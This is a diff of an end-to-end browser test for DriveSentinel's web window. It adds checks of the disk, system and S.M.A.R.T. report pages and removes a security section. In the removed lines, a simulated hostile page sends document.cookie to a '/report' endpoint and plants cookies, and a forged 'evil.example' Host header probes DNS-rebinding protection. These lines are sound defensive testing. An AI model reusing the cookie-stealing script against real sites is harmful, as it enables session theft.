@@ -1,6 +1,9 @@
-// End-to-end test of the DriveSentinel window in headless Chromium.
+// End-to-end test of the DriveSentinel window in headless Chromium: the shell (tabs at their
+// pixels, right clicks, F2, tray, licence, Close), where the page inputs live, and the report
+// pages: Disk Information with its drive list, System Information and S.M.A.R.T. with its
+// two exports.
 // usage: node shell_e2e.mjs PATH/TO/drivesentinel ARTEFACT_FOLDER
-import http from 'node:http';
+import fs from 'node:fs';
 import path from 'node:path';
 import {
   check, commandLine, exitCode, fail, finish, launchBrowser, makeHome, openWindow,
@@ -8,51 +11,13 @@ import {
 } from './harness.mjs';
 
 const [program, artefacts] = commandLine('shell_e2e.mjs', ['PATH/TO/drivesentinel', 'ARTEFACT_FOLDER']);
-const home = makeHome(program, {
-  ini: 'Loading_Time=1\nPE_Cycle_Limit=3000\nEnd_User_License_Agreement=data\\EULA.txt\n',
-});
-
-// Another web service on this host, on another port, that the window visits: it records
-// every request and its page reports what it can read of the cookies and plants its own.
-const seen = [];
-const otherService = http.createServer((request, response) => {
-  seen.push({ url: request.url, headers: request.headers });
-  if (!request.url.startsWith('/page')) {
-    response.writeHead(204);
-    response.end();
-    return;
-  }
-  response.writeHead(200, { 'Content-Type': 'text/html; charset=utf-8' });
-  response.end(`<!DOCTYPE html><title>another service</title><img src="/picture.png">
-<script>
-fetch('/report?cookie=' + encodeURIComponent(document.cookie));
-document.cookie = 'tool_page_host=evil.example; path=/';
-document.cookie = 'disk_sel=3; path=/';
-</script>`);
-});
+const home = makeHome(program, 'Loading_Time=1\nPE_Cycle_Limit=3000\nEnd_User_License_Agreement=data\\EULA.txt\n');
 
 const server = startProgram(program, ['--demo', '--headless', '--port', '0', '--home', home]);
 let browser;
 try {
   const address = await programAddress(server);
-  const origin = new URL(address).origin;
   const token = new URL(address).pathname.split('/')[1];
-
-  // Nothing outside the secret segment is served.
-  check((await fetch(origin + '/')).status === 404, 'the server root is not found');
-  check((await fetch(origin + '/?token=' + token)).status === 404, 'a token in the query opens nothing');
-  check((await fetch(origin + '/data/empty.html')).status === 404, 'data outside the secret segment is not found');
-  check((await fetch(origin + '/data/.input', { method: 'POST', body: 'type=button&id=1000' })).status === 404,
-    'inputs outside the secret segment are not found');
-  check((await fetch(address + 'data/empty.html')).status === 200, 'data under the secret segment is served');
-  const foreignHost = await new Promise((resolve) => {
-    const request = http.get(address, { headers: { Host: 'evil.example' } }, (response) => {
-      response.resume();
-      resolve(response.statusCode);
-    });
-    request.on('error', () => resolve(-1));
-  });
-  check(foreignHost === 403, 'a foreign Host is refused (DNS rebinding)');
 
   // A second instance on the same program folder ends at once, silently, with code 0.
   const second = startProgram(program, ['--demo', '--headless', '--home', home]);
@@ -60,7 +25,8 @@ try {
   check(secondCode === 0 && second.output === '', `a second instance exits silently (code ${secondCode})`);
 
   browser = await launchBrowser();
-  const { context, page, box, click, pageId, frameSource, showFrame, openTab } = await openWindow(browser, address);
+  const problems = [];
+  const { context, page, box, click, pageId, frameSource, showFrame, openTab } = await openWindow(browser, address, problems);
   check((await context.cookies()).every((cookie) => !cookie.value.includes(token)), 'no cookie carries the token');
   check(box.width === 800 && box.height === 600, 'the window is 800 x 600');
   const homeShown = () => page.evaluate(() => !document.getElementById('home').classList.contains('hidden'));
@@ -84,30 +50,9 @@ try {
   }
   console.log(`tab click to navigation, as the test sees it: ${timings.join(', ')} ms`);
 
-  // The same inside the page: from the click on a tab to the frame being sent to the page.
-  const inPage = await page.evaluate(async () => {
-    const frame = document.getElementById('browser');
-    const results = [];
-    for (const id of [1005, 1009, 1007, 1006, 1008, 1005, 1008, 1007, 1006, 1009]) {
-      const before = frame.getAttribute('src');
-      const started = performance.now();
-      const changed = new Promise((resolve) => {
-        const observer = new MutationObserver(() => {
-          if (frame.getAttribute('src') !== before && !frame.getAttribute('src').includes('loading.html')) {
-            observer.disconnect();
-            resolve(performance.now() - started);
-          }
-        });
-        observer.observe(frame, { attributes: true, attributeFilter: ['src'] });
-      });
-      document.querySelector(`.button[data-id="${id}"]`).click();
-      results.push(await changed);
-    }
-    return results;
-  });
-  inPage.sort((a, b) => a - b);
-  console.log(`tab click to navigation in the page: median ${inPage[5].toFixed(1)} ms, max ${inPage[9].toFixed(1)} ms`);
-  await showFrame(/SystemPage\.html/);
+  const system = await showFrame(/SystemPage\.html/);
+  let text = await system.evaluate(() => document.body.innerText);
+  check(/\d+MB/.test(text) && /QRA/.test(text) && !/STR_/.test(text), 'System Information shows memory and the kept disks');
   await page.screenshot({ path: path.join(artefacts, 'window-system-page.png'), clip: box });
 
   // Home button.
@@ -127,41 +72,43 @@ try {
   check(shellPrevented, 'a right click on the window opens no context menu');
   await click(400, 300, { button: 'right' });
 
-  // Another service on this host, visited from the window in every way a page can: it
-  // receives no token in any address, header or cookie and reads none of the page inputs.
-  await new Promise((resolve) => otherService.listen(0, '127.0.0.1', resolve));
-  const otherOrigin = `http://127.0.0.1:${otherService.address().port}`;
-  const inputCookie = `ds${token}_disk_sel`;
-  const stored = await waitFor(async () => (await context.cookies(address + 'data/')).find((c) => c.name === inputCookie),
+  // The page's input reaches the program as a cookie below the secret data folder, which
+  // pages of other services on this host (other ports) are never sent.
+  const stored = await waitFor(async () => (await context.cookies(address + 'data/')).find((c) => c.name === `ds${token}_disk_sel`),
     'the drive choice of the Disk Information page');
   check(stored.path === `/${token}/data/`, `the page input lives under the secret data folder (${stored.path})`);
-  await diskPage.evaluate((url) => {
-    fetch(url + '/from-page', { credentials: 'include', mode: 'no-cors' }).catch(() => {});
-    new Image().src = url + '/picture-from-page.png';
-  }, otherOrigin);
-  await page.evaluate((url) => fetch(url + '/from-shell', { credentials: 'include', mode: 'no-cors' }).catch(() => {}), otherOrigin);
-  const popup = context.waitForEvent('page', { timeout: 5000 });
-  await page.evaluate((url) => {
-    const link = document.createElement('a');
-    link.href = url + '/page-linked';
-    link.target = '_blank';
-    document.body.appendChild(link);
-    link.click();
-    link.remove();
-  }, otherOrigin);
-  await (await popup).waitForLoadState();
-  await diskPage.evaluate((url) => { window.location.href = url + '/page-in-frame'; }, otherOrigin);
-  await waitFor(() => seen.filter((request) => request.url.startsWith('/report')).length >= 2, 'the other pages\' reports');
-  await waitFor(() => ['/from-page', '/picture-from-page.png', '/from-shell'].every((url) => seen.some((request) => request.url === url)),
-    'the requests of the window');
-  const leaks = seen.filter((request) => JSON.stringify(request).includes(token));
-  check(leaks.length === 0, `another port receives no token (${seen.length} requests${leaks.length ? ': ' + JSON.stringify(leaks) : ''})`);
-  const reports = seen.filter((request) => request.url.startsWith('/report')).map((request) => decodeURIComponent(request.url));
-  check(reports.every((report) => !report.includes('disk_sel=0')), `a page on another port reads no page input (${reports.join(' | ')})`);
-  // Its planted cookies reach the window's requests too, and are ignored: the drive shown
-  // stays the first one.
-  await openTab(318, /disk_info_0_0\.html/);
-  check(true, 'a planted drive choice does not change the drive shown');
+
+  // Disk Information: the first drive, every field filled; the drive list opens another.
+  text = await diskPage.evaluate(() => document.body.innerText);
+  check(/QRA/.test(text) && !/STR_/.test(text), 'Disk Information shows the first drive, every field filled');
+  check(/SATA Gen\d/.test(text) && /TRIM|S\.M\.A\.R\.T\./.test(text), 'transfer mode and features are shown');
+  await diskPage.selectOption('.title select', 'disk_info_1_0.html');
+  const drive1 = await waitFor(() => page.frames().find((f) => /disk_info_1_0\.html/.test(f.url())), 'the second drive page');
+  await drive1.waitForLoadState('load');
+  check(/QRB/.test(await drive1.evaluate(() => document.body.innerText)), 'choosing the second drive in the list opens its page');
+
+  // S.M.A.R.T.: the attribute table, the IDENTIFY table and the two exports at their pixels.
+  await openTab(518, /SMARTPage\.html/);
+  const table = async (name) => {
+    const frame = await waitFor(() => page.frames().find((f) => name.test(f.url())), `${name}`);
+    await frame.waitForLoadState('load');
+    return frame;
+  };
+  const rows = await (await table(/SMARTInfo\.html/)).evaluate(() => [...document.querySelectorAll('tr')].filter((r) => r.cells.length === 8).length);
+  check(rows >= 9, `the attribute table has a header and the drive's attributes (${rows} rows)`);
+  check(/Word 255: Integrity word/.test(await (await table(/SMART_ID_Info\.html/)).evaluate(() => document.body.innerText)), 'the IDENTIFY table is complete');
+  await page.screenshot({ path: path.join(artefacts, 'smart.png'), clip: box });
+  for (const [y, name] of [[155, 'SMART.xls'], [357, 'Identify.xls']]) {
+    const download = page.waitForEvent('download', { timeout: 10000 }).catch(() => null);
+    await click(705, y);
+    const offered = await download;
+    check(offered && offered.suggestedFilename() === name, `the export button offers ${name}`);
+    if (offered) {
+      await offered.saveAs(path.join(artefacts, name));
+      const head = fs.readFileSync(path.join(artefacts, name)).subarray(0, 8).toString('hex');
+      check(head === 'd0cf11e0a1b11ae1', `${name} is a compound file`);
+    }
+  }
 
   // F2 with a wrong code does nothing.
   const internalVisible = () => page.evaluate(() => !document.querySelector('.button[data-id="1004"]').hidden);
@@ -170,7 +117,7 @@ try {
   await page.fill('#password-input', 'talvex');
   await page.click('.dialog[data-kind="password"] button[data-answer="ok"]');
   await sleep(400);
-  check(!(await internalVisible()) && (await pageId()) === 2, 'a wrong access code does nothing');
+  check(!(await internalVisible()) && (await pageId()) === 4, 'a wrong access code does nothing');
 
   // F2 with "Talvex" shows button 1004 and the Internal page; F2 again leaves for Home.
   await page.keyboard.press('F2');
@@ -213,6 +160,8 @@ try {
   if (licence) await licence.waitForLoadState();
   check(licence && (await licence.content()).includes('End User License Agreement'), 'the licence text opens in a new tab');
 
+  check(problems.length === 0, `no script errors or failed requests${problems.length ? ': ' + problems.join('; ') : ''}`);
+
   // A flood of clicks and malformed inputs leaves the program answering.
   const flood = await page.evaluate(async () => {
     const statuses = [];
@@ -238,7 +187,6 @@ try {
   console.log(server.errors);
 } finally {
   if (browser) await browser.close();
-  otherService.close();
   await stopProgram(server);
   removeHome(home);
 }
